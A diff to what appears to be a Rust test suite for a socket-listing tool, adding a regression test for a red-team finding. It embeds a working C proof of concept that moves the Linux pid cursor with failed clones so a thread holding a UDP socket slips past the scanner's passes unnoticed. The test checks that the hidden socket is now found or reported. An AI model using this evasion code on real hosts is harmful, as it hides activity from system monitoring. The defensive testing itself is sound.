@@ -1075,12 +1075,23 @@ libc.syscall(60, 0)
 /// `source` (C, with pthreads) built as `name` in the attacker's home; `None`
 /// without a C compiler.
 fn compiled(attacker: &common::Attacker, name: &str, source: &str) -> Option<std::path::PathBuf> {
+    compiled_with(attacker, name, source, &[])
+}
+
+/// `compiled`, with more arguments for the linker (after the source).
+fn compiled_with(
+    attacker: &common::Attacker,
+    name: &str,
+    source: &str,
+    link: &[&str],
+) -> Option<std::path::PathBuf> {
     let file = attacker.write(&format!("{name}.c"), source.as_bytes(), false);
     let binary = attacker.home.join(name);
     Command::new("cc")
         .args(["-O2", "-pthread", "-o"])
         .arg(&binary)
         .arg(&file)
+        .args(link)
         .status()
         .is_ok_and(|s| s.success())
         .then_some(binary)
@@ -1191,5 +1202,221 @@ fn huge_proxy_variables_in_many_clients_cost_a_scan_bounded_memory() {
                 .iter()
                 .all(|r| r.split(',').any(|r| r == "socks_env_truncated")),
         "clients past the budget are unread, never clean: {loud_reasons:?}"
+    );
+}
+
+/// The red team's pid-lapping program (round 3): `lap stall TARGET THREADS FDS`
+/// moves the pid cursor to TARGET with clones that fail after their pid was
+/// given (a full fd table and CLONE_PIDFD: `processes` in /proc/stat does not
+/// count them), then forks a process whose leader exits, with THREADS idle
+/// threads and FDS dups of a UDP socket (a pass spends its time there);
+/// `lap hide BELOW ABOVE HOLD_MS` forks a UDP holder whose leader exits and
+/// whose one live thread keeps moving from above the staller to below it,
+/// lapping the cursor and pushing it past where it was, so the last pid never
+/// goes down over a pass and few tasks are made.
+const PID_LAPPER: &str = r#"
+// Item 3 PoC. Two roles (run as an unprivileged user):
+//  lap stall TARGET NTHREADS NFDS : moves the pid cursor to TARGET with failed
+//     clones, then forks a "staller": leader exits, NTHREADS idle threads,
+//     NFDS dup'd TCP? no: UDP fds -> the whole pass spends its time at ~TARGET.
+//  lap hide BELOW ABOVE HOLD_MS : a UDP holder whose leader exits; its one live
+//     thread sits at a tid > ABOVE; in a loop it laps the pid cursor with
+//     failed clones (CLONE_PIDFD with a full fd table: alloc_pid runs, the
+//     clone fails with EMFILE, total_forks (/proc/stat processes) is not
+//     counted), makes a thread at tid ~BELOW (< the staller), exits the old
+//     one, pushes the cursor past ABOVE again with failed clones (so
+//     loadavg's last pid does not go down over the pass), holds HOLD_MS,
+//     then makes a thread above again.
+#define _GNU_SOURCE
+#include <stdio.h>
+#include <stdlib.h>
+#include <unistd.h>
+#include <string.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <pthread.h>
+#include <sched.h>
+#include <time.h>
+#include <sys/syscall.h>
+#include <sys/socket.h>
+#include <sys/resource.h>
+#include <linux/sched.h>
+static char cstack[65536];
+static int lfd=-1;
+static long cursor(void){ char b[256]; if(lfd<0) lfd=open("/proc/loadavg",O_RDONLY); int n=pread(lfd,b,255,0); if(n<=0){perror("loadavg");exit(1);} b[n]=0;
+  char *p=strrchr(b,' '); return atol(p+1); }
+static void failclone(long n){ for(long i=0;i<n;i++){ struct clone_args a; memset(&a,0,sizeof a); int pfd=-1;
+  a.flags=CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM|CLONE_PIDFD; a.pidfd=(unsigned long)&pfd;
+  a.stack=(unsigned long)cstack; a.stack_size=sizeof cstack; long r=syscall(SYS_clone3,&a,sizeof a); if(r==0) for(;;) pause(); } }
+static long pid_max=32768;
+// move cursor forward until last pid in [t-8, t) (wrapping if needed)
+static void cursor_to(long t){ for(;;){ long c=cursor(); long d= (t-1>=c)? (t-1-c) : (pid_max-1-c)+(t-1-300); if(d<=8) return; failclone(d>2000? d-1000 : (d>16? d/2 : 1));} }
+static void fill_fds(void){ struct rlimit r; getrlimit(RLIMIT_NOFILE,&r); r.rlim_cur=r.rlim_max<4096?r.rlim_max:4096; setrlimit(RLIMIT_NOFILE,&r);
+  while(open("/dev/null",O_RDONLY)>=0); }
+static void *idle(void*x){ for(;;) pause(); }
+static long BELOW, ABOVE, HOLD; static volatile long laps, c_start;
+static void *hider(void *x){
+  long phase=(long)x; // 0: I am above; 1: I am below
+  pthread_detach(pthread_self());
+  pthread_t t;
+  if(phase==0){ // above: wait a bit, then lap to BELOW and dip
+    struct timespec ts={0,(rand()%100)*1000000L}; nanosleep(&ts,0);
+    c_start=cursor(); cursor_to(BELOW); pthread_create(&t,0,hider,(void*)1); pthread_exit(0);
+  } else {      // below: push cursor above ABOVE (no task made), hold, climb
+    laps++;
+    cursor_to((c_start+100)%pid_max);
+    struct timespec ts={HOLD/1000,(HOLD%1000)*1000000L}; nanosleep(&ts,0);
+    pthread_create(&t,0,hider,(void*)0); pthread_exit(0);
+  }
+  return 0;
+}
+int main(int c,char**v){
+  FILE *pm=fopen("/proc/sys/kernel/pid_max","r"); if(pm){ if(fscanf(pm,"%ld",&pid_max)!=1) pid_max=32768; fclose(pm);} 
+  cursor();
+  if(!strcmp(v[1],"stall")){ long target=atol(v[2]); int nt=atoi(v[3]), nf=atoi(v[4]);
+    int s=socket(AF_INET,SOCK_DGRAM,0);
+    struct rlimit r; getrlimit(RLIMIT_NOFILE,&r); long keep=r.rlim_max;
+    r.rlim_cur=64; setrlimit(RLIMIT_NOFILE,&r); int fds[64]; int k=0; int f; while((f=open("/dev/null",O_RDONLY))>=0) fds[k++]=f;
+    cursor_to(target); for(int i=0;i<k;i++) close(fds[i]); r.rlim_cur=keep; setrlimit(RLIMIT_NOFILE,&r);
+    pid_t p=fork(); if(p){ printf("staller %d\n",p); return 0; }
+    for(int i=1;i<nf;i++) if(dup(s)<0){perror("dup");break;}
+    for(int i=0;i<nt;i++){pthread_t t; pthread_create(&t,0,idle,0);} pthread_exit(0); }
+  BELOW=atol(v[2]); ABOVE=atol(v[3]); HOLD=atol(v[4]);
+  int s=socket(AF_INET,SOCK_DGRAM,0); (void)s; // the socket to hide
+  fill_fds();
+  cursor_to(ABOVE+40);
+  pid_t p=fork(); if(p){ printf("hider %d\n",p); return 0; }
+  pthread_t t; pthread_create(&t,0,hider,(void*)0); pthread_exit(0);
+}
+"#;
+
+/// Kills every process of a test's attacker user when dropped, pass or fail
+/// (the lapper's processes are not children of the test).
+struct KillUser(String);
+
+impl Drop for KillUser {
+    fn drop(&mut self) {
+        let _ = Command::new("pkill").args(["-9", "-u", &self.0]).status();
+    }
+}
+
+/// Red team (high, round 3): a whole pass's check that pids came round reads
+/// two counters an unprivileged user can move apart (failed clones move the
+/// last pid without counting a task), so a holder whose leader exited and whose
+/// one thread hops below a slow pass was missing from about 1 full scan in 3,
+/// exit 0, nothing said. The processes whose leader had exited when the pass
+/// ended now get passes of their own. Each full scan must list the hider's
+/// socket or name it unsure; the staller (a process whose leader exited too,
+/// with no hopping thread) is found every time.
+#[test]
+fn a_thread_that_hops_below_the_pass_is_found_or_said() {
+    const TEST: &str = "a_thread_that_hops_below_the_pass_is_found_or_said";
+    const SCANS: usize = 15;
+    if !common::is_root() {
+        return common::skip(TEST, "needs root");
+    }
+    let _full_scan = full_scan_lock();
+    let attacker = common::attacker("piplap");
+    let _kill = KillUser(attacker.name.clone());
+    // libgcc_s linked in: a thread's exit loads it, and the hider's fd table
+    // is full by then.
+    let Some(binary) = compiled_with(
+        &attacker,
+        "lap",
+        PID_LAPPER,
+        &["-Wl,--no-as-needed", "-lgcc_s"],
+    ) else {
+        return common::skip(TEST, "no C compiler");
+    };
+    let pid_max: i64 = std::fs::read_to_string("/proc/sys/kernel/pid_max")
+        .ok()
+        .and_then(|s| s.trim().parse().ok())
+        .unwrap_or(0);
+    if pid_max > 100_000 {
+        // A lap of millions of pids takes the lapper far too long here.
+        return common::skip(TEST, format!("pid_max {pid_max}"));
+    }
+    // Each role forks and its parent exits: its output goes to a file (the
+    // forked process holds it open, so a pipe would never end).
+    let output = tempfile::tempfile().expect("temporary file");
+    let started = |args: &[String], what: &str| -> Option<i32> {
+        use std::io::{Read, Seek};
+        let mut out = output.try_clone().ok()?;
+        out.set_len(0).ok()?;
+        out.rewind().ok()?;
+        let status = attacker
+            .command(&binary)
+            .args(args)
+            .stdout(out.try_clone().ok()?)
+            .status()
+            .ok()?;
+        let mut text = String::new();
+        out.rewind().ok()?;
+        out.read_to_string(&mut text).ok()?;
+        if !status.success() {
+            return None;
+        }
+        text.strip_prefix(what)?.trim().parse().ok()
+    };
+    let mid = pid_max / 2;
+    let Some(staller) = started(
+        &["stall".into(), mid.to_string(), "20".into(), "19900".into()],
+        "staller ",
+    ) else {
+        return common::skip(TEST, "the staller did not start (fd limit?)");
+    };
+    let Some(hider) = started(
+        &[
+            "hide".into(),
+            (mid - 100).to_string(),
+            (mid + 100).to_string(),
+            "400".into(),
+        ],
+        "hider ",
+    ) else {
+        return common::skip(TEST, "the hider did not start");
+    };
+    std::thread::sleep(std::time::Duration::from_secs(2));
+    let host = an1256::platform::linux::LinuxHost::new(an1256::platform::HostConfig {
+        fd_iterator: true,
+        ..an1256::platform::HostConfig::default()
+    });
+    let query = an1256::model::SocketQuery {
+        pids: None,
+        protocols: an1256::model::ProtocolSet::ALL,
+    };
+    let (mut found, mut said, mut quiet) = (0, 0, Vec::new());
+    for scan_number in 0..SCANS {
+        let scan = an1256::platform::Host::sockets(&host, &query);
+        let holds = |pid: i32| {
+            scan.sockets
+                .iter()
+                .any(|s| s.pid == pid && s.protocol == 17)
+        };
+        let named = |pid: i32| {
+            scan.incomplete
+                .iter()
+                .any(|note| note.contains(&format!("process {pid}")))
+        };
+        assert!(
+            holds(staller) || named(staller),
+            "scan {scan_number}: the staller"
+        );
+        if holds(hider) {
+            found += 1;
+        } else if named(hider) {
+            said += 1;
+        } else {
+            quiet.push((scan_number, scan.incomplete.clone()));
+        }
+    }
+    eprintln!(
+        "{SCANS} full scans: the hider's socket found {found}, unsure {said}, missing with \
+         nothing said {}",
+        quiet.len()
+    );
+    assert!(
+        quiet.is_empty(),
+        "quiet misses (scan, incomplete): {quiet:?}"
     );
 }
